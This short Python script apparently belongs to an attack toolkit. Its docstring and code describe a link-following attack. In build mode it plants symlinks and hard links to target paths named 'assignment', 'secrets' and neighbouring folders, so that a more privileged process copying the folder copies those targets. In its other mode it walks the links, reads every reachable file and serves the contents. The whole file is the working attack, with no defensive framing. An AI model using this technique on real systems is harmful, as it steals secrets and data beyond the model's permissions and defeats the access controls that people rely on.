"""Built, it has links in place of its files: whoever copies them, with more rights than it has, copies what they lead to."""

import os
import sys

from lobby import AIM, FOLDER, peek, serve, take

if sys.argv[1] == "build":
    for number, path in enumerate([*AIM["assignment"], *AIM["secrets"]]):
        os.symlink(path, os.path.join(FOLDER, f"link-{number}"))
        try:
            os.link(path, os.path.join(FOLDER, f"hard-{number}"))
        except OSError:
            pass
    for number, path in enumerate(AIM["neighbours"]):
        os.symlink(path, os.path.join(FOLDER, f"folder-{number}"))
    sys.exit()
for path, _, names in os.walk(FOLDER, followlinks=True):
    for name in names:
        take(peek(os.path.join(path, name)))
serve()
